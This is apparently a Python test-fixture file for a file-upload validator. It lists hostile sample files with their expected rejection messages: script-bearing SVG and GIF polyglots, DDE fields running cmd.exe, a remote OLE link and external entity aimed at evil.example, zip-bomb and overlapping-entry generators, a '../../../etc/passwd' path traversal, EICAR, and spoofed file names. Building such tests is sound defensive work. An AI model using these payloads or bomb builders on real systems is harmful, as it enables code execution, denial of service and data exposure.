"""Files that are sent to do harm or by mistake: numbers are those of the list of bad input. Each with words of its answer."""

import io
import struct
import zipfile
import zlib

from tests.given_files import packed, pdf, picture, repacked, slides, table, unpacked, word

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'>%s</svg>"
NOT_TAKEN, NOT_SO, LOCKED, MACROS = "Files of this kind", "is not what its name says", "locked", "holds macros"
PROGRAM, TOO_MUCH, DAMAGED, HIDDEN = "program or a virus", "unpacks to more than", "damaged", "Another packed file"


def typed(content, old, new):
    """The package says in its list of contents that it is something else."""
    told = unpacked(content)["[Content_Types].xml"]
    assert old in told
    return repacked(content, {"[Content_Types].xml": told.replace(old, new)})


def field(instruction):
    text = unpacked(word())["word/document.xml"].decode()
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in instruction)
    return word(**{"word/document.xml": text.replace("<w:body>", f"<w:body><w:p>{runs}</w:p>")})


def bomb(name="xl/worksheets/sheet9.xml", size=355_000_000):
    """A part of a megabyte and a half that unpacks to 355."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = b" " * 1_000_000
    crc, squeezed = 0, []
    for _piece in range(size // len(piece)):
        squeezed.append(packer.compress(piece))
        crc = zlib.crc32(piece, crc)
    return _with_part(table(), name, b"".join([*squeezed, packer.flush()]), size, crc)


def lying_bomb():
    """The same, but its list says that it is short."""
    content = bomb()
    return content.replace(struct.pack("<I", 355_000_000), struct.pack("<I", 1000))


def overlapping():
    """Many entries of the list point at the same bytes."""
    content = word(**{"word/x.xml": " " * 1_000_000})
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        part = package.getinfo("word/x.xml")
    return _listed_again(content, part, 3_000, part.compress_size)


def many_parts():
    return packed({str(number): b"" for number in range(100_000)}, zipfile.ZIP_STORED)


def nested(deep=6):
    content = word()
    for _level in range(deep):
        content = word(**{"word/embeddings/inside.docx": content})
    return content


def locked_zip():
    """The flag of each entry says that it is encrypted."""
    content = bytearray(word())
    place = 0
    while (place := content.find(b"PK\x01\x02", place)) >= 0:
        content[place + 8] |= 1
        place += 4
    return bytes(content)


def huge_png():
    header = bytearray(picture("PNG", (1, 1)))
    header[16:24] = (50_000).to_bytes(4, "big") * 2
    header[29:33] = zlib.crc32(bytes(header[12:29])).to_bytes(4, "big")
    return bytes(header)


def _with_part(content, name, squeezed, size, crc):
    """Append a part that is packed already, and list it."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        begin, count = package.start_dir, len(package.namelist())
    listed = content[begin : content.rindex(b"PK\x05\x06")]
    facts = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, crc, len(squeezed), size)
    local = b"PK\x03\x04" + facts + struct.pack("<HH", len(name), 0) + name.encode() + squeezed
    entry = b"PK\x01\x02\x14\x00" + facts + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, begin) + name.encode()
    return _ended(content[:begin] + local, listed + entry, count + 1)


def _listed_again(content, part, times, size):
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        begin, count = package.start_dir, len(package.namelist())
    listed = content[begin : content.rindex(b"PK\x05\x06")]
    facts = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, part.CRC, size, part.file_size)
    again = b""
    for number in range(times):
        name = f"word/x{number}.xml".encode()
        place = part.header_offset
        again += b"PK\x01\x02\x14\x00" + facts + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, place) + name
    return _ended(content[:begin], listed + again, count + times)


def _ended(parts, listed, count):
    return parts + listed + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(listed), len(parts), 0)


# What is sent, under which name, and words of the answer beside the field. Functions are called when they are needed.
HOSTILE = {
    "56 SVG with a script": (SVG % b"<script>alert(1)</script>", "a.svg", NOT_TAKEN),
    "56 SVG with a foreign object named png": (SVG % b"<foreignObject/>", "a.png", NOT_SO),
    "56 SVG with an external entity": (b"<!DOCTYPE svg SYSTEM 'http://evil/x'>" + SVG % b"", "a.svg", NOT_TAKEN),
    "57 HTML named pdf": (b"<html><script>alert(1)</script>", "a.pdf", NOT_SO),
    "57 GIF and script": (b"GIF89a/*" + b"alert(1)*/=1;", "a.gif", NOT_TAKEN),
    "57 GIF and script named png": (b"GIF89a/*alert(1)*/=1;", "a.png", NOT_SO),
    "57 HTML behind the mark of a PDF": (b"%PDF-1.7\n<html><script>alert(1)</script>", "a.pdf", DAMAGED),
    "57 a package of HTML named docx": (lambda: packed({"a.html": "<script>"}), "a.docx", NOT_SO),
    "57 a table named docx": (table, "a.docx", NOT_SO),
    "58 docm": (word, "a.docm", NOT_TAKEN),
    "58 docm renamed": (lambda: word(**{"word/vbaProject.bin": b"\xd0\xcf"}), "a.docx", MACROS),
    "58 docm renamed, by its list": (
        lambda: typed(
            word(),
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        "a.docx",
        MACROS,
    ),
    "58 xlsm renamed": (lambda: table(**{"xl/VBAproject.BIN": b"\xd0\xcf"}), "a.xlsx", MACROS),
    "58 old macros of Excel": (lambda: table(**{"xl/macrosheets/sheet1.xml": "<x/>"}), "a.xlsx", MACROS),
    "58 pptm renamed": (lambda: slides(**{"ppt/vbaProject.bin": b"\xd0\xcf"}), "a.pptx", MACROS),
    "58 macros of OpenDocument": (
        lambda: packed({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": "<x/>"}),
        "a.odt",
        MACROS,
    ),
    "58 DDE field": (lambda: field([r"DDEAUTO c:\\windows\\system32\\cmd.exe"]), "a.docx", "DDE"),
    "58 DDE field in pieces": (lambda: field(["D", "DEAU", r'TO cmd "/c calc"']), "a.docx", "DDE"),
    "58 DDE link": (lambda: table(**{"xl/externalLinks/externalLink1.xml": '<ddeLink ddeService="cmd"/>'}), "a.xlsx", "DDE"),
    "58 a part that is loaded from elsewhere": (
        lambda: word(**{"word/_rels/a.rels": '<Relationship Id="r1" Type="http://x/oleObject" Target="https://evil.example/x.html!" TargetMode="External"/>'}),
        "a.docx",
        "from another address",
    ),
    "59 EICAR": (EICAR, "eicar.com", NOT_TAKEN),
    "59 EICAR named pdf": (EICAR, "a.pdf", NOT_SO),
    "59 EICAR in a PDF": (lambda: pdf() + EICAR, "a.pdf", PROGRAM),
    "59 EICAR in a docx": (lambda: word(**{"word/embeddings/x.bin": EICAR}), "a.docx", PROGRAM),
    "59 EICAR in a zip in a docx": (
        lambda: word(**{"word/x.zip": packed({"eicar.com": EICAR})}), "a.docx", HIDDEN),
    "59 a program in a docx": (lambda: word(**{"word/embeddings/x.bin": b"MZ\x90\x00"}), "a.docx", PROGRAM),
    "60 zip in zip in zip": (nested, "a.docx", HIDDEN),
    "60 a sheet of 355 MB": (bomb, "a.xlsx", TOO_MUCH),
    "60 a sheet of 355 MB that says it is short": (lying_bomb, "a.xlsx", DAMAGED),
    "60 a hundred thousand entries": (many_parts, "a.docx", TOO_MUCH),
    "60 overlapping entries": (overlapping, "a.docx", TOO_MUCH),
    "60 an entry that leads out": (lambda: word(**{"../../../etc/passwd": "x"}), "a.docx", DAMAGED),
    "61 50,000 by 50,000 points": (huge_png, "a.png", "too many points"),
    "61 a JPEG that ends too early": (lambda: picture()[:2000], "a.jpg", DAMAGED),
    "62 a name with NUL": (pdf, "a.pdf\x00.html", NOT_TAKEN),
    "62 a name that ends otherwise": (pdf, "a.pdf.exe", NOT_TAKEN),
    "62 a name that is turned": (EICAR, "a\u202efdp.exe", NOT_TAKEN),
    "62 a name without an end": (pdf, "paper", NOT_TAKEN),
    "63 nothing": (b"", "a.pdf", "empty"),
    "63 one byte too many": (lambda: b"%PDF-" + b"0" * 9_999_996, "a.pdf", "larger than 10 MB"),
    "63 a document that ends at half": (lambda: word()[:9000], "a.docx", DAMAGED),
    "66 a locked PDF": (lambda: pdf(password="secret"), "a.pdf", LOCKED),
    "66 a PDF locked against changes": (lambda: pdf(only_owner=True), "a.pdf", LOCKED),
    "66 a locked workbook": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "a.xlsx", LOCKED),
    "66 a locked package": (locked_zip, "a.docx", LOCKED),
}  # fmt: skip


def sent(name):
    """Bytes, name of the file and expected words."""
    content, called, words = HOSTILE[name]
    return (content() if callable(content) else content), called, words
